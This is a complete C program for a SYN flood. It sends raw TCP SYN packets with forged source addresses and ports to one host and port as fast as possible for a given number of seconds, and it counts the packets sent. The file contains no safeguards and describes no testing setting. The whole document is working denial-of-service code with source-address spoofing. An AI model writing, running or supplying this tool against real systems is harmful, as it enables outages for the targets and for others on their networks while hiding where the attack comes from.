/*
 * syn-flood INTERFACE SOURCE DESTINATION PORT SECONDS: SYNs to one port of a host as fast as they can be sent, each from another address
 * (the last two bytes of SOURCE change) and port, and none is ever answered. They go through the usual way: DESTINATION must be reached by
 * INTERFACE. Prints how many were sent.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static void put16(unsigned char *at, unsigned int value)
{
	at[0] = value >> 8;
	at[1] = value;
}

static unsigned int sum(const unsigned char *at, int length, unsigned int start)
{
	for (int i = 0; i < length; i += 2)
		start += at[i] << 8 | at[i + 1];
	while (start >> 16)
		start = (start & 65535) + (start >> 16);
	return start;
}

int main(int argc, char **argv)
{
	unsigned char packet[40] = { 0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, IPPROTO_TCP };
	unsigned char *tcp = packet + 20;
	struct sockaddr_in to = { .sin_family = AF_INET };
	int sock = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	uint32_t seed = 1;
	long sent = 0;
	double end;

	if (argc != 6 || sock < 0 || inet_pton(AF_INET, argv[2], packet + 12) != 1 || inet_pton(AF_INET, argv[3], packet + 16) != 1) {
		fprintf(stderr, "usage: syn-flood INTERFACE SOURCE DESTINATION PORT SECONDS (as root)\n");
		return 2;
	}
	setsockopt(sock, SOL_SOCKET, SO_BINDTODEVICE, argv[1], strlen(argv[1]));
	memcpy(&to.sin_addr, packet + 16, 4);
	tcp[12] = 5 << 4;
	tcp[13] = 2; /* SYN */
	put16(tcp + 2, atoi(argv[4]));
	put16(tcp + 14, 65535);
	end = now() + atof(argv[5]);
	while (now() < end) {
		seed = seed * 1664525 + 1013904223;
		packet[14] = seed >> 24;
		packet[15] = 1 + (seed >> 16 & 127);
		put16(tcp, 1024 + (seed >> 8 & 32767));
		put16(tcp + 4, seed >> 16);
		put16(tcp + 6, seed);
		put16(tcp + 16, 0);
		put16(tcp + 16, ~sum(tcp, 20, sum(packet + 12, 8, IPPROTO_TCP + 20)));
		/* The kernel writes the checksum of the IP header. */
		sent += sendto(sock, packet, sizeof(packet), 0, (struct sockaddr *)&to, sizeof(to)) == sizeof(packet);
	}
	printf("%ld\n", sent);
	return 0;
}
